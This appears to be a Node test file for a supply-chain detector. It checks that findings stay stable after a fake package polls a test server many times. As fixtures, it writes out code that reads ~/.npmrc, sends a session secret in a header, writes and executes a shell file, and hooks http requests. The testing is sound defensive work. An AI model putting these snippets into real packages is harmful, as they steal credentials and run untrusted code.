import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { VictimApp } from '../support/victim-app.ts';

/*
 * A connection that was found ordinary a moment ago is attributed, and not weighed again. Whatever a package does then
 * must be told as if it had done nothing before.
 */
const CLIENT = (more: string): string => `
const http = require('node:http');
const url = (path = '/') => new URL(path, process.env.SINK);
const get = (headers = {}, path) => new Promise((done) =>
  http.get(url(path), { headers, agent: exports.agent }, (response) => response.resume().on('end', done)).on('error', done));
exports.agent = new http.Agent({ keepAlive: true });
exports.poll = async (times) => { for (let i = 0; i < times; i++) await get(); };
exports.act = async () => { ${more} };`;
const MAIN = (calls: string): string => `
const { connectionGraph, threatSummary } = require('diogenesis-otel');
const labels = require('labels');
(async () => {
  for (let i = 0; i < Number(process.env.TIMES); i++) await labels.poll(1);
  ${calls}
  const { edges } = connectionGraph();
  const { count } = edges.find(({ from, to }) => from.startsWith('labels@') && to.startsWith('net:'));
  console.log(JSON.stringify({ weighed: count, ...threatSummary().agents.net, findings: undefined }));
})();`;

interface Told {
  readonly findings: readonly string[];
  readonly weighed: number;
  readonly known: number;
  readonly novel: number;
}

async function told(times: number, more: string, calls = 'await labels.act();', env = {}, other = ''): Promise<Told> {
  await using app = await VictimApp.create();
  app.labels('1.0.1', CLIENT(more));
  app.folder.package('other', '1.0.0', other, {}, 'app/node_modules/other');
  app.write('main.js', MAIN(calls));
  const preload = ['--require', 'diogenesis-otel/register', 'main.js'];
  const ran = await app.run(preload, { TIMES: String(times), ...env });
  assert.equal(ran.code, 0, ran.stderr);
  const found = app.findings();
  const findings = found.map(({ level, rule, trait, package: { name } }) => `${level} ${rule.name} ${name} ${trait}`);
  return { ...JSON.parse(ran.stdout), findings: findings.sort() };
}

/* More than are looked at in full before it pays to look at stacks in another way. */
const OFTEN = 300;

/** The same with and without many requests before it. */
async function assertAsTold(more: string, rule: string, calls?: string, env?: object, other?: string): Promise<void> {
  const [once, often] = [await told(1, more, calls, env, other), await told(OFTEN, more, calls, env, other)];
  assert(
    once.findings.some((one) => one.includes(rule)),
    JSON.stringify(once.findings),
  );
  assert.deepEqual(often.findings, once.findings);
  assert(often.known >= OFTEN - 1, `all are counted: ${often.known}`);
  assert(often.weighed < OFTEN / 2, `most are not weighed: ${often.weighed}`);
}

describe('a package that polls a server, and then', () => {
  it('goes on: counted, and not weighed', async () => {
    const { findings, weighed, known } = await told(OFTEN, '', '');
    assert.deepEqual([findings, known], [[], OFTEN - 1]);
    assert(weighed < OFTEN / 2, `${weighed}`);
  });

  it('takes a secret and sends something there', () =>
    assertAsTold(
      `require('node:fs').readFileSync(require('node:path').join(require('node:os').homedir(), '.npmrc')); await get();`,
      'secret_after_network',
    ));

  it('sends a secret there that it was handed', () =>
    assertAsTold(`await get({ 'x-trace': process.env.SESSION_SECRET });`, 'carried_secret', undefined, {
      SESSION_SECRET: 'sEdTM1uX8pu2do5XvTnutH6HsouMaM2',
    }));

  it('runs what comes from there', () =>
    assertAsTold(
      `const fs = require('node:fs'), file = require('node:path').join(require('node:os').tmpdir(), 'diogenesis-' + process.pid);
       await get(); fs.writeFileSync(file, '#!/bin/sh\\n', { mode: 0o700 });
       await new Promise((done) => require('node:child_process').execFile(file, done)); fs.unlinkSync(file);`,
      'download_write_run',
    ));

  it('another package goes there, through the same client', async () => {
    const other = `exports.go = (labels) => labels.poll(1);`;
    const calls = `await require('other').go(labels);`;
    const [once, often] = [await told(1, '', calls, {}, other), await told(OFTEN, '', calls, {}, other)];
    assert.deepEqual(often.findings, once.findings);
    assert.deepEqual([often.known, often.novel], [once.known + OFTEN - 1, once.novel]);
    assert.equal(once.novel, 2, 'of labels, and of whoever has it do so');
  });

  it('somebody stands in its way to the network', () =>
    assertAsTold(
      '',
      'replaced',
      `require('other'); await labels.poll(2);`,
      {},
      `const { prototype } = require('node:http').ClientRequest; const { end } = prototype;
       prototype.end = function (...args) { globalThis.taken = args; return end.apply(this, args); };`,
    ));
});
